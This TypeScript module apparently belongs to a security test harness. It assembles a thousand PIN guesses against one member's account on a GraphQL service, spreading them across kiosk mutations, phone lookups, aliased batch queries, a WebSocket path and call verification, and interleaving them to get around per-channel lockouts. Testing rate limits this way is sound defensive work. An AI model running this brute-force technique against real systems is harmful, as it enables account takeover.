/** A thousand guesses at one person's PIN, through every door that asks for it. */
import WebSocket from 'ws';
import { type Answer, send } from '../acting/graphql.ts';

/** Whom the guesses are after. */
export interface Target {
  readonly memberId: string;
  readonly phone: string;
}

/** Where guesses are made. */
export interface Doors {
  readonly graphql: string;
  readonly graphqlWs: string;
  /** Tokens of three kiosks. */
  readonly kiosks: readonly string[];
  /** Calls from the target's number: the phone line's token within each, and its id. */
  readonly calls: readonly { readonly token: string; readonly callId: string }[];
}

/** One request, with the PINs that it tries. `send` gives the code of the answer; throws when none comes. */
export interface Guess {
  readonly pins: readonly string[];
  readonly send: () => Promise<string>;
}

/** How many PINs go through which door. */
const SHARES = { photo: 390, phone: 330, aliases: 120, socket: 60, call: 100 } as const;
/** All of them. */
export const GUESSES = Object.values(SHARES).reduce((sum, share) => sum + share, 0);
const ALIASES = 10;

const OPEN = `mutation ($input: OpenFamilySessionInput!) {
  wish: openFamilySession(input: $input) { session { expiresAt } userErrors { code } } }`;
const PROVE = `mutation ($input: ProveCallerInput!) {
  wish: proveCaller(input: $input) { session { expiresAt } userErrors { code } } }`;

interface Payload {
  readonly wish: {
    readonly session: object | null;
    readonly userErrors: readonly { readonly code: string }[];
  };
}

function codeOf({ data, errors }: Answer<Payload>): string {
  const error = errors?.[0];
  if (error) return error.extensions?.code ?? error.message;
  return data?.wish.userErrors[0]?.code ?? (data?.wish.session ? 'OPENED' : 'NOTHING');
}

async function asked(graphql: string, token: string, query: string, input: object): Promise<string> {
  return codeOf((await send<Payload>(graphql, token, { query }, { input })).answer);
}

/** One try at a kiosk's door, as the kiosk's page makes it; gives the code of the answer. */
export const tryAtKiosk = (graphql: string, token: string, input: object): Promise<string> =>
  asked(graphql, token, OPEN, input);

/** One try in a call; gives the code of the answer. */
export const tryInCall = (
  graphql: string,
  { token, callId }: Doors['calls'][number],
  pin: string,
): Promise<string> => asked(graphql, token, PROVE, { callId, pin });

/** Many tries in one document. */
function manyInOne({ graphql }: Doors, token: string, { memberId }: Target, pins: readonly string[]) {
  const tries = pins.map(
    (pin, index) =>
      `g${index}: openFamilySession(input: { familyMemberId: "${memberId}", pin: "${pin}" }) { userErrors { code } }`,
  );
  return asked(graphql, token, `mutation { ${tries.join(' ')} }`, {});
}

/** A mutation over the socket; the code of its error, or of what it was let do. */
async function overSocket(url: string, token: string, { memberId }: Target, pin: string): Promise<string> {
  const socket = new WebSocket(url, ['graphql-transport-ws']);
  const { promise, resolve, reject } = Promise.withResolvers<string>();
  const payload = { query: OPEN, variables: { input: { familyMemberId: memberId, pin } } };
  socket.on('error', reject);
  socket.on('close', (code) => resolve(`CLOSED_${code}`));
  socket.on('open', () =>
    socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } })),
  );
  socket.on('message', (data) => {
    const frame = JSON.parse(data.toString()) as { type: string; payload?: unknown };
    if (frame.type === 'connection_ack') socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload }));
    if (frame.type === 'error')
      resolve(codeOf({ errors: frame.payload as NonNullable<Answer<Payload>['errors']> }));
    if (frame.type === 'next') resolve(codeOf(frame.payload as Answer<Payload>));
  });
  return promise.finally(() => socket.terminate());
}

/** Everything that is going to be tried, in an order that mixes the doors. */
export function guessesAt(target: Target, doors: Doors, pins: readonly string[]): Guess[] {
  const rest = [...pins];
  const take = (count: number) => rest.splice(0, count);
  const turn = <T>(all: readonly T[], index: number) => all[index % all.length] as T;
  const each = (share: number, make: (pin: string, index: number) => Promise<string>): Guess[] =>
    take(share).map((pin, index) => ({ pins: [pin], send: () => make(pin, index) }));
  const kiosk = (index: number) => turn(doors.kiosks, index);
  const all = [
    ...each(SHARES.photo, (pin, index) =>
      tryAtKiosk(doors.graphql, kiosk(index), { familyMemberId: target.memberId, pin }),
    ),
    ...each(SHARES.phone, (pin, index) =>
      tryAtKiosk(doors.graphql, kiosk(index), { phone: target.phone, pin }),
    ),
    ...Array.from({ length: SHARES.aliases / ALIASES }, (_, index): Guess => {
      const tried = take(ALIASES);
      return { pins: tried, send: () => manyInOne(doors, kiosk(index), target, tried) };
    }),
    ...each(SHARES.socket, (pin, index) => overSocket(doors.graphqlWs, kiosk(index), target, pin)),
    ...each(SHARES.call, (pin, index) => tryInCall(doors.graphql, turn(doors.calls, index), pin)),
  ];
  return mixed(all);
}

/** Every seventh first, then the ones after them: neighbours come from different doors, the same at every run. */
const mixed = <T>(all: readonly T[]): T[] =>
  Array.from({ length: 7 }, (_, start) => all.filter((_each, index) => index % 7 === start)).flat();
